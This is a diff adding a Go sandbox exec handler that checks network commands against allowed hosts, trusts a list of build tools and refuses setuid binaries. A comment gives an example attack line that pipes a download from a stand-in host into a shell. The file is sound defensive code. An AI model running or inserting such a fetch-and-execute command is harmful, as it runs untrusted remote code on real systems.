@@ -0,0 +1,139 @@
+package sandbox
+
+import (
+	"context"
+	"fmt"
+	"net/url"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"time"
+
+	"mvdan.cc/sh/v3/interp"
+)
+
+// networkCommands are binaries whose arguments we inspect for a target
+// host and check against Policy.AllowedHosts before letting them run.
+var networkCommands = map[string]bool{
+	"curl": true,
+	"wget": true,
+	"git":  true,
+}
+
+// buildTools are binaries that are always safe to exec regardless of
+// Policy.AllowCommands — the mundane commands an ordinary
+// prepare/build/package stage runs.
+//
+// Deliberately excluded: "sh"/"bash" (and other general-purpose shells).
+// Unlike the tools below, a shell's entire purpose is to run further
+// arbitrary commands of its own choosing — trusting it blanket would
+// let a script do `bash -c "curl evil.example/x | sh"` and reach any
+// host or binary the rest of this allow-list exists to stop, since
+// everything that shell then runs happens as real OS subprocesses
+// never routed back through this handler. A spec that genuinely needs
+// to invoke a sub-shell must have it added to Policy.AllowCommands
+// explicitly. make/cc/gcc/clang/ld/ar can still spawn subprocesses of
+// their own (make's $(shell ...), a linker's helper steps) that we
+// likewise can't see — that's accepted here because they're core,
+// unavoidable build tools, not a general command-execution escape hatch.
+var buildTools = map[string]bool{
+	"true": true, "false": true,
+	"echo": true, "printf": true, "cat": true, "test": true, "[": true,
+	"mkdir": true, "rm": true, "rmdir": true, "cp": true, "mv": true, "ln": true,
+	"chmod": true, "touch": true, "tar": true, "gzip": true, "gunzip": true, "xz": true,
+	"make": true, "cc": true, "gcc": true, "clang": true, "ld": true, "ar": true,
+	"install": true, "patch": true, "sed": true, "grep": true, "find": true,
+}
+
+// execHandler enforces the sandbox's exec allow-list. Network commands
+// are checked against AllowedHosts. When Policy.AllowedHosts is
+// configured (i.e. the caller wants network access restricted at all),
+// anything that isn't a known build tool or network command must be
+// explicitly named in Policy.AllowCommands — unrecognized binaries are
+// denied by default rather than trusted to make no network calls of
+// their own. When ForbidSetuid is set, every exec'd binary is also
+// checked for the setuid/setgid bit.
+func execHandler(policy Policy) interp.ExecHandlerFunc {
+	return func(ctx context.Context, args []string) error {
+		if len(args) == 0 {
+			return fmt.Errorf("sandbox: empty command")
+		}
+		name := args[0]
+		base := filepath.Base(name)
+
+		if networkCommands[base] {
+			if err := checkNetworkArgs(policy, args); err != nil {
+				return err
+			}
+		} else if policy.AllowedHosts != nil && !buildTools[base] && !policy.commandAllowed(base) {
+			return fmt.Errorf("sandbox: refusing to exec %q: not a recognized build tool and not in the configured allow-list", name)
+		}
+
+		if policy.ForbidSetuid {
+			if err := checkNotSetuid(name); err != nil {
+				return err
+			}
+		}
+
+		return interp.DefaultExecHandler(2*time.Second)(ctx, args)
+	}
+}
+
+// checkNetworkArgs validates every argument that names a network
+// destination, covering both explicit scheme://host URLs and bare
+// host[:port] arguments (curl/wget default to http:// when no scheme
+// is given). This is argv text-sniffing, not a socket-level check: it
+// catches the common "curl/wget/git <target>" shape but can't see a
+// network call a binary makes on its own. Once Policy.AllowedHosts is
+// set, anything outside networkCommands is denied by default instead
+// (see execHandler) so this heuristic is a narrowing, not the only line
+// of defense.
+func checkNetworkArgs(policy Policy, args []string) error {
+	for _, arg := range args[1:] {
+		if strings.HasPrefix(arg, "-") {
+			continue
+		}
+		host := hostOf(arg)
+		if host == "" {
+			continue
+		}
+		if !policy.hostAllowed(host) {
+			return fmt.Errorf("sandbox: network access to %q is not permitted by policy", host)
+		}
+	}
+	return nil
+}
+
+// hostOf extracts a hostname from a URL or a bare host[:port]/path
+// argument, returning "" if arg doesn't look like a network target.
+func hostOf(arg string) string {
+	candidate := arg
+	if !strings.Contains(candidate, "://") {
+		candidate = "http://" + candidate
+	}
+	u, err := url.Parse(candidate)
+	if err != nil || u.Hostname() == "" {
+		return ""
+	}
+	return u.Hostname()
+}
+
+func checkNotSetuid(name string) error {
+	path := name
+	if !filepath.IsAbs(path) {
+		resolved, err := exec.LookPath(name)
+		if err != nil {
+			return nil // not found on PATH; let the normal exec handler report it
+		}
+		path = resolved
+	}
+	info, err := os.Stat(path)
+	if err != nil {
+		return nil
+	}
+	if info.Mode()&(os.ModeSetuid|os.ModeSetgid) != 0 {
+		return fmt.Errorf("sandbox: refusing to exec setuid/setgid binary %q", path)
+	}
+	return nil
+}